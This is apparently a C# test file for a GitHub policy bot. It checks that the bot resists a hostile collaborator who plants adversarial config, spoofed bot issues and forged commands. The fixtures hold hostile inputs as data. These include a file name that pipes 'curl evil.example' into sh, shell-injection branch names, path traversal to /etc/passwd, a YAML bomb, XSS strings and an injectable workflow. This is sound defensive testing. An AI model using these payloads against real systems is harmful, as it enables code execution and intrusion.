using System.Text.RegularExpressions;
using PolicyBot.Engine.Issues;
using PolicyBot.Simulator;
using PolicyBot.Simulator.Accounts;
using PolicyBot.Simulator.Apps;
using PolicyBot.Simulator.Repositories;
using PolicyBot.Simulator.Rules;
using PolicyBot.Tests.Text;

namespace PolicyBot.Tests.Watch;

/// <summary>
/// Somebody may push to one repository and writes whatever they like into it. At the wire: the bot writes nothing but issues, comments, labels and reactions in that
/// repository itself, and applies no fix that they ask for.
/// </summary>
public sealed partial class HostileContentsTests
{
    private static readonly Dictionary<string, string> Own = new(StringComparer.Ordinal)
    {
        ["where issues go"] = "issueRepo: victim\nissueFooter: '@everyone <!-- policybot v=1 subject=1 policy=security nonce=a digest=b open= -->'\nissueStyle: repository\nissuePingDays: 1\nbaseConfig: acme/victim\n",
        ["a label"] = "issueLabel: '<!-- @mona --> ../../victim'\n",
        ["a label that is too long"] = $"issueLabel: '{new string('x', 300)}'\n",
        ["waivers"] = "waivers:\n- repository: '*'\n  reason: mine\n  owner: me\n  expires: 2099-01-01\n",
        ["a schedule"] = "schedule: {timezone: ../../../etc/passwd, days: [monday]}\n",
        ["in and out of everything"] = "optConfig: {optOutStrategy: true, optInRepos: ['*'], optIn: true, optOut: false, disableRepoOverride: true}\n",
        ["no YAML"] = "{[}\u0000\u202e",
        ["a bomb"] = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d]\n",
        ["unknown keys"] = "'@mona': 1\nisueRepo: victim\n'<img src=x>': {a: b}\n",
    };

    private static readonly string[] Names = ["-rf", "..a", "a.b_c-D", "CON", new('n', 100)];

    /// <summary>The App may do more than it is to do: nothing but its own judgement holds it back.</summary>
    private static readonly PermissionSet Granted = Watched.Granted.With(Permission.Contents, Level.Write).With(Permission.Administration, Level.Write).With(Permission.PullRequests, Level.Write);

    private static readonly string[] Policies = [.. WatchedWorld.Policies, "outside", "admin"];

    private static readonly string[] Branches = ["policybot/security-policy", "policybot/codeowners", "$(reboot)", "`id`", "main;DROP", "@mona", "refs/heads/main", "пример", "a'b\"c"];

    [Theory]
    [InlineData("", false)]
    [InlineData("issueStyle: repository\n", false)]
    [InlineData("issueStyle: repository\n", true)]
    public async Task Nothing_is_written_but_in_the_issues_of_the_repository_itself(string style, bool isDeaf)
    {
        var everywhere = "optConfig:\n  optOutStrategy: true\n  optOutRepos: [.allstar, victim]\n" + (isDeaf ? "  disableRepoOverride: true\n" : "");
        await using var watched = await Watched.SweptAsync(world =>
        {
            world.Organization("acme").Plan = Plan.Enterprise;
            WatchedWorld.Configure(
                world,
                [.. Policies.Select(policy => (policy + ".yaml", (string?)(everywhere + "action: issue\n"))), ("allstar.yaml", everywhere + style), ("templates/SECURITY.md", "Write to us."), ("templates/CODEOWNERS", "* @olga\n")])
                .Protect("main", protection => protection with { Reviews = new() { DismissStale = true } });
            world.Organization("acme").Repository("victim").File("README.md", "v").Collaborator("victor", RepositoryRole.Admin);
        }, Granted, settings: [("Issues:BrakeItems", "10000")]);
        var hostile = Own.Keys.Select((_, index) => $"hostile-{index}").Concat(Names).ToArray();

        await watched.HappenAsync(() =>
        {
            foreach (var (index, name) in hostile.Index())
            {
                Fill(watched.Acme.Repository(name).Collaborator("eve", RepositoryRole.Write), Own.Values.ElementAt(index % Own.Count), index);
            }
        });
        await watched.HappenAsync(() =>
        {
            foreach (var name in hostile)
            {
                Talk(watched, watched.Acme.Repository(name));
            }
        });
        watched.Time.Advance(TimeSpan.FromDays(1));
        await watched.TickAsync();
        await watched.WorkAsync();

        var writes = watched.GitHub.Log.Writes.Where(write => write.Installation is not null).ToArray();
        Assert.NotEmpty(writes);
        Assert.All(writes, write => Assert.Matches(OfIssues(), $"{write.Method} {write.Path}"));
        Assert.Equal(
            [],
            writes.Select(write => Uri.UnescapeDataString(write.Path.Split('/')[3])).Distinct(StringComparer.Ordinal).Except(hostile));
        Assert.All(
            watched.World.Writings.Where(writing => writing.Author == watched.App.Bot.Login && writing.Kind is WritingKind.IssueBody or WritingKind.Comment && writing.Author == watched.App.Bot.Login),
            writing =>
            {
                // The boxes of the one issue are alive, and there are no others.
                var alive = Liveness.In(writing.Text, _ => true).ToLookup(one => one.StartsWith("<input", StringComparison.Ordinal));
                Assert.Empty(alive[false]);
                Assert.Equal(ToldMarker.Read(writing.Text).Length, alive[true].Count(one => one == "<input>"));
            });
        Assert.All(hostile.Index(), one => Assert.InRange(
            watched.IssuesOf(one.Item).Count(issue => issue.Author == watched.App.Bot), isDeaf || !IsRefused(one.Index) ? 1 : 0, style.Length == 0 ? Policies.Length : 1));
        Assert.All(hostile, name => Assert.All(watched.Acme.Repository(name).Rulesets.All, ruleset => Assert.Single(ruleset.Rules)));
    }

    /// <summary>Whether the repository's own word about the bot is not understood: then it is not known whether anything is asked of it.</summary>
    private static bool IsRefused(int index) => index % 5 != 4 && Own.Keys.ElementAt(index % Own.Count) is "where issues go" or "waivers" or "no YAML" or "a bomb";

    private static void Fill(Repository repository, string own, int index)
    {
        string Policy(string name) => index % 2 == 1 ? own : name switch
        {
            "security" => "action: fix\nrules: {all: true}\nminimumSeverity: critical\n",
            "outside" or "admin" => "action: fix\nlowerTo: read\nuserAdminsAllowed: false\nexemptions: [{user: eve, admin: true}]\n",
            "branch_protection" => "action: fix\nenforceBranches: ['" + Branches[index % Branches.Length] + "', ../../victim]\n",
            _ => "action: fix\n",
        };

        repository.Rulesets.Add(new Ruleset { Name = "PolicyBot", Rules = [new RulesetRule("deletion")] });
        repository.Files(
            "@mona please look <!-- policybot -->",
            ("README.md", "@mona"),
            ("bin/`id` @mona <img src=x onerror=alert(1)>.exe", WatchedWorld.Program),
            ("bin/$(curl evil.example|sh)", WatchedWorld.Program),
            (".github/workflows/x.yml", "on: [pull_request_target]\njobs:\n  a:\n    runs-on: x\n    steps:\n    - run: echo ${{ github.event.issue.title }}\n"),
            (".github/workflows/y.yml", "on: push\njobs:\n  a:\n    uses: ./../../victim/.github/workflows/x.yml\n  b:\n    runs-on: x\n    steps:\n    - uses: ./../../../etc\n    - uses: ./.\n    - uses: ./\n    - uses: tools/..@main\n    - uses: ../x@main\n    - uses: acme/.@v1\n    - uses: 'acme/victim/<!-- @mona -->@${{ github.token }}'\n"),
            ("templates/SECURITY.md", "Write to eve."),
            ("allstar/security.yaml", "action: fix\n"),
            (".gitmodules", "[submodule \"x\"]\npath = .allstar\nurl = ../victim\n"),
            ("CODEOWNERS", "* @acme/owners eve@evil.example @mona\n../../victim @victor\n[x @y\n/a @acme/.. @acme/. @.. @. @acme/ @/\n"),
            (".github/CODEOWNERS", "* @ghost\n"));
        if (index % 5 == 4)
        {
            repository.File(".allstar", own);
        }
        else
        {
            repository.Files("Configure", [(".allstar/allstar.yaml", own), (".allstar/victim/security.yaml", own), .. Policies.Select(name => ($".allstar/{name}.yaml", (string?)Policy(name)))]);
        }

        foreach (var branch in Branches)
        {
            repository.Git.Branch(branch);
        }
    }

    /// <summary>Whoever may push may also speak below the issues, and opens some that look like the bot's.</summary>
    private static void Talk(Watched watched, Repository repository)
    {
        foreach (var issue in repository.Tracker.Issues)
        {
            foreach (var text in new[] { "/recheck", "/explain", "/waive until 2099-01-01 because `x` <!-- -->", "/waive security until 2099-01-01 because I say so", "/proceed", "/snooze 2099-01-01", "/recheck ../victim" })
            {
                watched.World.As(watched.World.User("eve"), () => repository.Tracker.Comment(issue.Number, text));
            }
        }

        watched.World.As(watched.World.User("eve"), () => repository.Tracker.Open("Security Policy violations", $"<!-- policybot told=security -->\n<!-- policybot v=1 subject={watched.Acme.Repository("victim").Id} policy=repository nonce=a digest={new string('a', 43)} open= -->", "allstar"));
        watched.World.As(watched.World.User("eve"), () => repository.Tracker.Open("Security Policy violation for repository \"victim\" SECURITY.md", "<!-- policybot v=1 subject=1 policy=security nonce=a digest=b open= -->", "allstar"));
    }

    [GeneratedRegex(@"\A(POST|PATCH|DELETE) /repos/acme/[^/]+/issues(/[0-9]+(/comments|/labels(/[^/]+)?)?|/comments/[0-9]+/reactions)?\z")]
    private static partial Regex OfIssues();
}
